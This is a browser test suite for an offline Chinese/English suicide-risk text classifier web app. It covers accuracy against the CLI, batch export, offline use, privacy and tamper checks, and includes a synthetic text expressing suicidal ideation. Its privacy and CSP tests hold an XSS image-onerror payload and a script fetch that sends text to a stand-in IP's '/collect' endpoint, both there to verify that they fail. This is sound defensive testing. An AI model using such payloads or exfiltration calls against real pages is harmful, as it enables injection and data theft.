// The web app in headless Chromium, on WebGPU (SwiftShader) and on the CPU fallback: its numbers
// equal `sosrisk predict --json` for the same model and texts; batch mode and its export work;
// reloading offline still classifies; no request carries the typed text and nothing is stored.
// Screenshots of the main states go to tests/web/artifacts/. All texts are synthetic.
import { test } from "node:test";
import assert from "node:assert/strict";
import { mkdirSync, writeFileSync, readFileSync, existsSync } from "node:fs";
import { join } from "node:path";
import { chromium } from "playwright-core";
import { serve } from "./server.mjs";
import { artifacts, assertClose, CHROMIUM, classify, cliPredictions, dist, FLAGS, MODEL, ready } from "./helpers.mjs";

// Written for these tests; none comes from the dataset.
const TEXTS = [
  "今天天气很好，和朋友去公园散步了。",
  "最近总是睡不着，觉得活着没有什么意思，想一个人消失。",
  "I feel fine today, 123 😀 ok",
  "繁體中文的句子，測試一下\u200b零寬字元。",
  "<img src=x onerror=\"window.__injected=1\"> 你好",
];

function carriesText(entry, texts) {
  const blob = [entry.url, JSON.stringify(entry.headers), entry.body || ""].join("\n");
  return texts.some((t) => [t, encodeURIComponent(t), t.slice(0, 6), encodeURIComponent(t.slice(0, 6))].some((v) => blob.includes(v)));
}

for (const gpu of [true, false]) {
  const backend = gpu ? "WebGPU" : "CPU";
  test(`page on ${backend}: same numbers as the CLI, batch, export, offline, privacy`, { timeout: 900_000 }, async () => {
    assert.ok(existsSync(join(dist, "index.html")), "dist/ is missing: run `trunk build --release --offline` first");
    mkdirSync(artifacts, { recursive: true });
    const expected = cliPredictions(TEXTS);
    const server = await serve(dist, "/sosrisk/");
    const browser = await chromium.launch({
      executablePath: CHROMIUM,
      args: gpu ? [...FLAGS, "--enable-unsafe-webgpu"] : FLAGS,
    });
    try {
      const context = await browser.newContext({ acceptDownloads: true, viewport: { width: 1100, height: 900 } });
      const seen = [];
      context.on("request", (r) => seen.push({ url: r.url(), headers: r.headers(), body: r.postData() }));
      const page = await context.newPage();
      const errors = [];
      page.on("pageerror", (e) => errors.push(String(e)));
      const started = Date.now();
      // The WebGPU run asks for it: on SwiftShader the automatic choice stays on the CPU
      // (backend.test.mjs), and this checks WebGPU's numbers against the CLI's.
      // It counts the shaders compiled, too (`debug=kernels`): once ready, none more.
      await page.goto(`${server.base}?model=${MODEL}${gpu ? "&backend=webgpu&debug=kernels" : ""}`);
      assert.equal(await ready(page), backend, "backend in use");
      const loadMs = Date.now() - started;
      await page.screenshot({ path: join(artifacts, `${backend}-loaded.png`) });
      // Loading is over when the service worker is active and the network is quiet (the icon and
      // the service worker's script can come late).
      await page.evaluate(() => navigator.serviceWorker.ready);
      await page.waitForLoadState("networkidle");
      const afterLoad = { server: server.log.length, browser: seen.length };

      const times = [];
      for (const [i, text] of TEXTS.entries()) {
        const t0 = Date.now();
        const got = await classify(page, text);
        times.push(Date.now() - t0);
        assert.ok(!got.error, `text ${i}: ${got.error}`);
        assertClose(got, expected[i], `text ${i} on ${backend}`);
        assert.equal(got.attribution.length, got.chars_used, "one attribution weight per character read");
        if (i === 1) await page.screenshot({ path: join(artifacts, `${backend}-result.png`), fullPage: true });
      }
      if (gpu) {
        // Texts of five lengths, their attributions (batches of up to 32 variants): the
        // warm-up compiled every kernel they need. (The count follows each result.)
        await page.waitForTimeout(500);
        const k = await page.locator("#model-status").evaluate((el) => ({ ready: el.dataset.kernelsAtReady, now: el.dataset.kernelsNow }));
        console.log(`WebGPU kernels: ${k.ready} at ready, ${k.now} after the texts`);
        assert.ok(Number(k.ready) > 0, "kernels are counted");
        assert.equal(k.now, k.ready, "no kernel compiled after the warm-up");
      }
      // The HTML in the last text is shown as text, never run.
      assert.equal(await page.evaluate(() => window.__injected), undefined);
      assert.equal(await page.locator("#attribution img").count(), 0);
      const empty = await classify(page, "   \n ");
      // Said in the page's language (Chinese by default), not as the library's English error.
      assert.match(empty.error, (await page.getAttribute("html", "lang")) === "en" ? /^Empty text/ : /^文本为空/);
      // Only invisible characters (zero-width space, byte-order mark) is empty too, not a score.
      const invisible = await classify(page, "\u200b\u200b\ufeff");
      assert.match(invisible.error, (await page.getAttribute("html", "lang")) === "en" ? /^Empty text/ : /^文本为空/);

      // Batch: a synthetic CSV with a BOM, CRLF, a quoted comma, an empty row and a row of only
      // zero-width characters (one request of seven: the blank rows must not fail the others).
      const csv = "\ufeffid,text\r\n" + TEXTS.map((t, i) => `${i},"${t.replaceAll('"', '""')}"`).join("\r\n") + "\r\n99,\"  \"\r\n98,\u200b\u200d\r\n";
      await page.setInputFiles("#batch-file", { name: "synthetic.csv", mimeType: "text/csv", buffer: Buffer.from(csv) });
      await page.waitForFunction(() => {
        const b = document.querySelector("#batch");
        return b && b.dataset.total === "7" && b.dataset.done === b.dataset.total;
      }, null, { timeout: 300_000 });
      await page.screenshot({ path: join(artifacts, `${backend}-batch.png`), fullPage: true });
      const [download] = await Promise.all([page.waitForEvent("download"), page.click("#export")]);
      const exported = readFileSync(await download.path(), "utf8").replace(/^\ufeff/, "").trim().split(/\r?\n/);
      // Every input column in order (id, text), then the results.
      assert.equal(exported[0], "id,text,line,level,band,p_level,high_risk,p_high_risk,call,reason,phrase,deciding_characters,error");
      assert.equal(exported.length, 8);
      TEXTS.forEach((_, i) => assert.ok(exported[i + 1].startsWith(`${i},`), exported[i + 1]));
      expected.forEach((p, i) => assert.ok(exported[i + 1].includes(`,${p.level},${p.band},`), `export row ${i}: ${exported[i + 1]}`));
      assert.match(exported[6], /empty text/);
      assert.match(exported[7], /empty text/);

      // Classifying made no request at all, and no request ever carried a text.
      // (The one exception is the browser re-checking the service worker's own script, sw.js,
      // which it does on its own schedule; it carries nothing.)
      const byPage = (urls) => urls.filter((u) => new URL(u, server.base).pathname !== "/sosrisk/sw.js");
      assert.deepEqual(byPage(server.log.slice(afterLoad.server).map((e) => e.url)), [], "requests to the server after loading");
      assert.deepEqual(byPage(seen.slice(afterLoad.browser).map((r) => r.url)), [], "requests after loading");
      assert.deepEqual(server.log.filter((e) => carriesText(e, TEXTS)).map((e) => e.url), []);
      assert.deepEqual(seen.filter((e) => carriesText(e, TEXTS)).map((e) => e.url), []);
      for (const e of server.log) assert.ok(e.method === "GET" && new URL(e.url, server.base).pathname.startsWith("/sosrisk/"), `${e.method} ${e.url}`);

      // Nothing derived from the text is stored.
      const stored = await page.evaluate(async () => ({
        local: localStorage.length,
        session: Object.keys(sessionStorage).filter((k) => k !== "lang"),
        cookies: document.cookie,
        idb: (await indexedDB.databases()).length,
        cached: await Promise.all((await caches.keys()).map(async (n) => (await (await caches.open(n)).keys()).map((r) => r.url))),
      }));
      assert.deepEqual([stored.local, stored.session, stored.cookies, stored.idb], [0, [], "", 0]);
      for (const url of stored.cached.flat()) assert.ok(url.startsWith(server.base), url);

      // The Content-Security-Policy is there (meta tag and header) and blocks a cross-origin
      // request even if script on the page tried one.
      const csp = await page.getAttribute('meta[http-equiv="Content-Security-Policy"]', "content");
      assert.match(csp, /default-src 'self'/);
      assert.match(csp, /connect-src 'self'/);
      assert.doesNotMatch(csp, /unsafe-inline/);
      const index = server.log.find((e) => e.url.startsWith("/sosrisk/?") || e.url === "/sosrisk/");
      assert.ok(index, "the page itself was requested");
      const blocked = await page.evaluate(async () => {
        let violated = false;
        document.addEventListener("securitypolicyviolation", () => { violated = true; });
        const outcome = await fetch("http://198.51.100.7/collect?text=x").then(() => "sent", () => "blocked");
        await new Promise((r) => setTimeout(r, 100));
        return { outcome, violated };
      });
      assert.deepEqual(blocked, { outcome: "blocked", violated: true });

      // A crash in the worker: the page says so, starts a new one and keeps working. (After the
      // request checks: a new worker fetches its files again.)
      await page.workers()[0].evaluate(() => setTimeout(() => { throw new Error("simulated worker crash"); }));
      await page.waitForSelector("p.notice[role=alert]");
      assert.equal(await ready(page), backend, "backend after the worker restarted");
      const again = await classify(page, TEXTS[0]);
      assertClose(again, expected[0], "after the restart");

      // Clearing the box clears the answer.
      await page.click("text=/^(清除|Clear)$/");
      assert.equal(await page.inputValue("#post"), "");
      assert.equal(await page.locator("#result").count(), 0);

      // Offline after one visit, as a user would: no second online load. The page says when the
      // service worker has stored the app and this model.
      await page.waitForSelector('#model-status[data-offline="ready"]', { timeout: 60_000 });
      await context.setOffline(true);
      const offlineStart = Date.now();
      await page.reload();
      assert.equal(await ready(page), backend, "backend after an offline reload");
      const warmLoadMs = Date.now() - offlineStart;
      const offline = await classify(page, TEXTS[1]);
      assertClose(offline, expected[1], "offline");
      await page.screenshot({ path: join(artifacts, `${backend}-offline.png`) });

      // An older version of each immutable file (other ?sha=, other Trunk hash) is dropped once
      // the current one is used again, here by another offline reload; the current ones stay.
      const cachedNow = async () => page.evaluate(async () => (await (await caches.open("sosrisk-v1")).keys()).map((r) => r.url));
      const versioned = (u) => /[?&]sha=|-[0-9a-f]{16}(_bg)?\.(js|wasm|css)$/.test(u);
      const older = (u) => u.includes("sha=") ? u.replace(/sha=[0-9a-f]+/, "sha=" + "0".repeat(64)) : u.replace(/-[0-9a-f]{16}(_bg)?\./, "-0000000000000000$1.");
      const current = (await cachedNow()).filter(versioned);
      assert.ok(current.length >= 4, `versioned files cached: ${current.length}`);
      await page.evaluate(async (urls) => {
        const cache = await caches.open("sosrisk-v1");
        for (const u of urls) await cache.put(u, new Response("stale"));
      }, current.map(older));
      await page.reload();
      assert.equal(await ready(page), backend, "backend after a second offline reload");
      for (let i = 0; i < 50 && (await cachedNow()).some((u) => u.includes("0000000000000000")); i++) await page.waitForTimeout(100);
      const after = await cachedNow();
      assert.deepEqual(after.filter((u) => u.includes("0000000000000000")), [], "older versions left in the cache");
      for (const u of current) assert.ok(after.includes(u), `current version dropped: ${u}`);
      await context.setOffline(false);

      // English interface, phone width.
      await page.setViewportSize({ width: 390, height: 844 });
      if ((await page.getAttribute("html", "lang")) !== "en") await page.click("button.lang");
      await page.waitForSelector('html[lang="en"]');
      await page.waitForSelector("text=Assess");
      await page.click("button.lang");
      await page.waitForSelector('html[lang="zh-CN"]');
      await page.waitForSelector("text=评估");
      await page.screenshot({ path: join(artifacts, `${backend}-phone-zh.png`), fullPage: true });
      await page.click("button.lang");
      await page.screenshot({ path: join(artifacts, `${backend}-phone-en.png`), fullPage: true });
      assert.deepEqual(errors, []);
      const timing = { backend, model: MODEL, cold_load_ms: loadMs, warm_load_ms: warmLoadMs, first_result_ms: times[0], per_text_ms: times };
      writeFileSync(join(artifacts, `${backend}-timing.json`), JSON.stringify(timing, null, 2) + "\n");
      console.log(JSON.stringify(timing));
    } finally {
      await browser.close();
      await server.close();
    }
  });
}

test("a tampered model file is refused with a message naming it", { timeout: 300_000 }, async () => {
  const server = await serve(dist, "/", { tamper: `models/${MODEL}/tokenizer.json` });
  const browser = await chromium.launch({ executablePath: CHROMIUM, args: FLAGS });
  try {
    const page = await browser.newPage();
    await page.goto(`${server.base}?model=${MODEL}`);
    const status = await page.waitForSelector('#model-status[data-state="failed"]', { timeout: 180_000 });
    const message = await status.textContent();
    assert.match(message, /tokenizer\.json: SHA-256 is [0-9a-f]{64}, but the model config expects/);
    // Said in the page's language first; the English detail is kept for the site's maintainer.
    const fault = await page.textContent("#load-fault");
    assert.match(fault, (await page.getAttribute("html", "lang")) === "en" ? /tokenizer\.json is corrupt/ : /tokenizer\.json 已损坏/);
    assert.equal(await page.locator("button.primary").isDisabled(), true, "nothing to classify with");
    await page.screenshot({ path: join(artifacts, "tampered-model.png") });
  } finally {
    await browser.close();
    await server.close();
  }
});
